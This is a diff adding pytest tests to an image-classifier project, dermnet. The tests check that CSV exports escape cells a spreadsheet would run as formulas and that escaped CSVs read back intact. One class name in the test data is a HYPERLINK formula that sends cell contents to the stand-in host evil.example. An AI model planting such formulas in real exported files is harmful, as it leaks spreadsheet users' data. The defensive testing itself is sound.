@@ -117,3 +117,47 @@ def test_a_bad_image_is_named_and_nothing_is_written(tmp_path, capsys):
     assert not (tmp_path / "p.csv").exists()
     with pytest.raises(SystemExit):  # argparse: images are required
         cli.main(["predict", str(tmp_path / "model.keras")])
+
+
+# Spreadsheets run a cell that starts with one of these as a formula.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def test_predictions_csv_holds_no_cell_a_spreadsheet_would_run(tmp_path):
+    """Class names and file names reach predictions.csv as text a spreadsheet shows, never runs; the
+    probabilities stay numbers."""
+    import csv
+
+    classes = ["=HYPERLINK(\"http://evil.example/?\"&A1)", "-melanoma", "@nevus"]
+    model = dermnet.build("baseline_cnn", num_classes=3, input_shape=(32, 32, 3))
+    run = saved_run(model, tmp_path / "run", classes)
+    images = tmp_path / "images"
+    images.mkdir()
+    for name in ("=cmd.png", "+a.png", "-b.png", "@c.png"):
+        cv2.imwrite(str(images / name), np.zeros((8, 8, 3), np.uint8))
+    out = tmp_path / "predictions.csv"
+    assert cli.main(["predict", str(run), str(images), "--out", str(out)]) == 0
+    with open(out, newline="") as file:
+        header, *rows = list(csv.reader(file))
+    cells = [cell for row in rows for cell in row[:3]]  # image_id, image, predicted
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert sorted(row[0] for row in rows) == ["'+a", "'-b", "'=cmd", "'@c"]
+    assert {row[2] for row in rows} <= {f"'{name}" for name in classes}
+    table = pd.read_csv(out)
+    assert all(table[f"p_{name}"].dtype == np.float64 for name in classes)
+
+
+def test_a_csv_dermnet_wrote_reads_back_whole(tmp_path):
+    """Escaped text comes back as it was where dermnet reads its own CSVs (a list of images); numbers,
+    negative ones too, are never escaped."""
+    from dermnet._io import read_csv, write_csv
+    from dermnet.inference import image_paths
+
+    names = ["-a.png", "=b.png", "'c.png", "''d.png", "'-e.png", "plain.png", "@f.png"]
+    table = pd.DataFrame({"image": names, "score": [-0.5, 1, -2, 0, 3, -1e-9, 2], "+label": ["\tx"] * 7})
+    write_csv(tmp_path / "list.csv", table)
+    text = (tmp_path / "list.csv").read_text()
+    assert text.startswith("image,score,'+label\n")
+    assert "'-a.png,-0.5," in text and "plain.png,-1e-09," in text  # numbers never escaped
+    assert [p.name for p in image_paths([tmp_path / "list.csv"])] == names
+    pd.testing.assert_frame_equal(read_csv(tmp_path / "list.csv"), table)
